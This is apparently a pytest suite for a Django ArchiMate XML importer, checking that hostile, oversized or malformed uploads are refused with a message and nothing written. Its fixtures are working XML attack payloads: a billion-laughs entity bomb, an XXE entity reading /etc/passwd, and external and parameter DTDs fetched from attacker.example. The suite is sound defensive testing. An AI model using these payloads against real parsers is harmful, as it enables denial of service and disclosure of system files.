"""Hostile and broken exchange files are refused with a clear message before anything is written: entity expansion
(billion laughs), external entities and DTDs, files over the size limit, files that are not XML or not the exchange
format."""

from __future__ import annotations

import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from lxml import etree

from sia.exchange.archimate import importer
from sia.exchange.archimate.reader import _parser, parse, read_upload
from sia.exchange.problems import FileRejected

from .test_archimate_import import count_objects

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
MODEL = ('<model xmlns="http://www.opengroup.org/xsd/archimate/3.0/" '
         'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" identifier="id-m">'
         '<name xml:lang="id">{name}</name><elements><element identifier="id-1" xsi:type="BusinessProcess">'
         '<name xml:lang="id">Proses</name></element></elements></model>')
BILLION_LAUGHS = HEAD + """<!DOCTYPE model [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
""" + MODEL.format(name="&lol9;")
EXTERNAL_ENTITY = HEAD + '<!DOCTYPE model [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + MODEL.format(name="&xxe;")
EXTERNAL_DTD = HEAD + '<!DOCTYPE model SYSTEM "http://attacker.example/evil.dtd">\n' + MODEL.format(name="Model")
PARAMETER_ENTITY = HEAD + ('<!DOCTYPE model [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>\n'
                           + MODEL.format(name="Model"))
VALID = HEAD + MODEL.format(name="Model")


def upload(content: bytes | str, name="model.xml"):
    data = content.encode() if isinstance(content, str) else content
    return SimpleUploadedFile(name, data, "application/xml")


def test_a_minimal_file_is_read():
    found = parse(VALID.encode())
    assert [e.name for e in found.elements.values()] == ["Proses"]


@pytest.mark.parametrize("content", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"])
def test_dtds_and_entities_are_refused_unread(content):
    with pytest.raises(FileRejected, match="DTD"):
        parse(content.encode())


def test_the_parser_itself_expands_nothing_and_fetches_nothing():
    """Defence in depth: were a DTD let through, the parser neither expands entities nor reads external ones."""
    try:
        laughs = etree.fromstring(BILLION_LAUGHS.encode(), _parser())
    except etree.XMLSyntaxError as error:  # libxml2 refuses the amplification itself
        assert "amplification" in str(error)
    else:
        assert len(etree.tostring(laughs)) < 10_000
    external = etree.fromstring(EXTERNAL_ENTITY.encode(), _parser())
    assert b"root:" not in etree.tostring(external)


@pytest.mark.parametrize("content, message", [
    (b"PK\x03\x04 not xml at all", "XML yang sah"),
    (b"<html><body>hi</body></html>", "bukan ArchiMate"),
    ((HEAD + MODEL.format(name="Model").replace('<name xml:lang="id">Proses</name>', "")).encode(), "skema"),
], ids=["not-xml", "other-root", "schema-invalid"])
def test_broken_files_are_refused_with_the_reason(content, message):
    with pytest.raises(FileRejected, match=message):
        parse(content)


def test_files_over_the_limit_are_refused_before_parsing(settings):
    settings.SIA_ARCHIMATE_MAX_BYTES = 1000
    big = VALID.replace("Model", "M" * 2000).encode()
    with pytest.raises(FileRejected, match="terlalu besar"):
        read_upload(upload(big))
    with pytest.raises(FileRejected, match="terlalu besar"):
        parse(big)


def _exactly(size: int) -> bytes:
    """A valid exchange file of exactly ``size`` bytes (its name padded)."""
    base = VALID.replace("Model", "").encode()
    return VALID.replace("Model", "M" * (size - len(base))).encode()


def test_a_file_exactly_at_the_limit_is_read_and_one_byte_more_is_refused_naming_the_limit(settings):
    settings.SIA_ARCHIMATE_MAX_BYTES = 2 * 1024 * 1024
    at_limit = _exactly(2 * 1024 * 1024)
    assert len(at_limit) == 2 * 1024 * 1024
    assert read_upload(upload(at_limit)) == at_limit
    assert [e.name for e in parse(at_limit).elements.values()] == ["Proses"]
    over = _exactly(2 * 1024 * 1024 + 1)
    for refuse in (lambda: read_upload(upload(over)), lambda: parse(over)):
        with pytest.raises(FileRejected) as refused:
            refuse()
        message = refused.value.message
        assert re.search(r"batasnya 2[,.]0 MB \(SIA_ARCHIMATE_MAX_BYTES\)", message), message
        assert re.search(r"2[.,]097[.,]153 bita", message)


def test_the_spreadsheet_limit_does_not_bound_archimate_files(settings):
    settings.SIA_IMPORT_MAX_BYTES = 1000
    settings.SIA_ARCHIMATE_MAX_BYTES = 10_000
    content = _exactly(5000)
    assert read_upload(upload(content)) == content and parse(content).elements


class _Lying(SimpleUploadedFile):
    """An upload whose size says less than it holds, recording how much is read of it."""

    def __init__(self, content: bytes):
        super().__init__("model.xml", content, "application/xml")
        self.size, self.read_sizes = 100, []

    def read(self, size=-1):
        self.read_sizes.append(size)
        return super().read(size)


def test_no_more_than_one_byte_over_the_limit_is_read_of_an_upload_whatever_its_size_says(settings):
    settings.SIA_ARCHIMATE_MAX_BYTES = 1000
    lying = _Lying(_exactly(50_000))
    with pytest.raises(FileRejected, match="terlalu besar"):
        read_upload(lying)
    assert lying.read_sizes == [1001]


def test_a_large_upload_is_kept_on_disk_by_django_not_in_memory(client, world, settings, monkeypatch):
    from django.core.files.uploadedfile import TemporaryUploadedFile

    from sia.exchange.archimate import services

    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1000
    seen = []
    original = services.read_upload
    monkeypatch.setattr(services, "read_upload", lambda up: seen.append(type(up)) or original(up))
    client.force_login(world.users["admin"])
    response = client.post(reverse("exchange:archimate"), {"instansi": world.inst.pk, "file": upload(_exactly(5000))})
    assert seen == [TemporaryUploadedFile] and response.status_code in (200, 400)


def test_another_extension_or_an_empty_file_is_refused():
    with pytest.raises(FileRejected, match=".xml"):
        read_upload(upload(VALID, name="model.xlsx"))
    with pytest.raises(FileRejected, match="kosong"):
        read_upload(upload(b""))


@pytest.mark.parametrize("content", [BILLION_LAUGHS, EXTERNAL_ENTITY, "not xml"], ids=["laughs", "xxe", "garbage"])
def test_the_api_answers_400_with_the_message_and_writes_nothing(world, api, content):
    before = count_objects(world.inst)
    url = f'{reverse("exchange-api:archimate")}?instansi={world.inst.pk}'
    response = api(world.users["admin"]).post(url, {"file": upload(content), "commit": True}, format="multipart")
    assert response.status_code == 400
    body = response.json()
    assert body["written"] is False and body["problems"] and body["problems"][0]["message"]
    assert count_objects(world.inst) == before


def test_the_page_shows_the_refusal(client, world):
    client.force_login(world.users["admin"])
    response = client.post(reverse("exchange:archimate"), {"instansi": world.inst.pk,
                                                           "file": upload(EXTERNAL_ENTITY)})
    assert response.status_code == 400
    assert "DTD" in response.content.decode() and 'id="archimate-commit"' not in response.content.decode()


def test_the_importer_refuses_a_hostile_file_of_the_koordinator(world):
    with pytest.raises(FileRejected):
        importer.preview(BILLION_LAUGHS.encode(), user=world.users["admin"], institution=world.inst)


def test_views_are_checked_against_the_schemas_as_they_are_read_and_then_let_go(world, kinds):
    from sia.exchange.archimate.export import export_model
    from sia.exchange.archimate.reader import _valid_tree

    from .archimate_helpers import NS, fill_every_kind

    fill_every_kind(kinds)
    content, _problems = export_model(world.users["admin"], world.inst)
    assert content.count(b"<view ") > 2
    root = _valid_tree(content)
    views = root.findall("a:views/a:diagrams/a:view", NS)
    assert len(views) == 1 and len(views[0]) == 0  # the last one, emptied: the others are gone
    assert len(root.findall("a:elements/a:element", NS)) == content.count(b"<element ")
    first_connection = content.index(b"<connection ")
    dangling = content[:first_connection] + content[first_connection:].replace(
        b'relationshipRef="id-', b'relationshipRef="gone-', 1)
    with pytest.raises(FileRejected, match="skema.*RelationshipRef"):
        parse(dangling)
    stray = content.replace(b"<node ", b"<nodes ", 1)
    with pytest.raises(FileRejected, match="skema.*nodes"):
        parse(stray)
    for cut in (content[:-40], content[:-8], content[:len(content) // 2], content + b"<model/>"):
        with pytest.raises(FileRejected, match="XML yang sah"):  # lxml's checking reader alone lets these pass
            parse(cut)
